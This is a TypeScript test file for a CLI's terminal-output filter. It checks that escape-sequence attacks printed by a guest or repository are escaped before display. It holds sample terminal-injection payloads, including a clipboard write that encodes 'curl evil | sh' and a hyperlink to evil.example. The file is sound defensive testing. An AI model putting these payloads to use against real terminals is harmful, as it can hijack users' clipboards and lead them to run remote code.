import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Writable } from 'node:stream';
import { Progress } from '../../engine/cli/progress';
import { formatTable } from '../../engine/cli/table';
import { guestOutputFor, plainLine, TerminalFilter } from '../../engine/cli/terminal-text';

/** What a hostile guest or repository prints to take over the user's terminal. */
const ATTACKS = {
  title: '\x1b]0;owned\x07',
  clipboard: '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07',
  hyperlink: '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\',
  query: '\x1b[6n\x1bP$qm\x1b\\',
  csi8bit: '\u009b2J',
  clear: '\x1b[2J\x1b[H',
};

test('guest output on a terminal keeps line breaks, tabs, \\r, \\b and colours, and escapes every other control sequence', () => {
  const filter = new TerminalFilter();
  const colours = '\x1b[1;31merror\x1b[0m\tdone\r\n[#####  ]\b\b\n';
  assert.equal(filter.write(colours), colours);
  for (const [name, attack] of Object.entries(ATTACKS)) {
    const out = filter.write(`before ${attack} after\n`) + filter.end();
    assert.ok(!/[\x1b\x07\u009b]/.test(out), `${name}: ${JSON.stringify(out)}`);
    assert.match(out, /^before .* after\n$/);
  }
  // A colour cut by a chunk boundary still arrives whole; a sequence that is not a colour does not.
  assert.equal(filter.write('a\x1b[3') + filter.write('2mb'), 'a\x1b[32mb');
  assert.equal(filter.write('a\x1b') + filter.write(']0;t\x07'), 'a\\x1b]0;t\\x07');
  assert.equal(filter.write('x\x1b'), 'x');
  assert.equal(filter.end(), '\\x1b', 'a lone ESC at the end is shown, escaped');
});

test('guest output to a file or pipe stays byte for byte; to a terminal it is filtered, UTF-8 cut anywhere', () => {
  const bytes = Buffer.from(`é ${ATTACKS.title}\n`);
  assert.equal(guestOutputFor({ isTTY: false } as NodeJS.WriteStream)(bytes), bytes);
  const tty = guestOutputFor({ isTTY: true } as NodeJS.WriteStream);
  const out = [bytes.subarray(0, 1), bytes.subarray(1)].map((b) => tty(b)).join('');
  assert.equal(out, 'é \\x1b]0;owned\\x07\n');
});

test('CLI notes and table cells show repository and guest text with control characters escaped', () => {
  let written = '';
  const out = new Writable({
    write(chunk: Buffer, _enc, done) {
      written += chunk.toString();
      done();
    },
  });
  new Progress(out).note(`> postCreateCommand: echo ${ATTACKS.clipboard}\nsecond line`);
  assert.equal(written, 'microvm: > postCreateCommand: echo \\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\nsecond line\n');
  const table = formatTable([
    ['SERVICE', 'PORT'],
    [`db${ATTACKS.title}`, '5432'],
  ]);
  assert.ok(!table.includes('\x1b'), table);
  assert.equal(plainLine('a\tb\nc\u009b'), 'a\tb\\x0ac\\x9b');
});
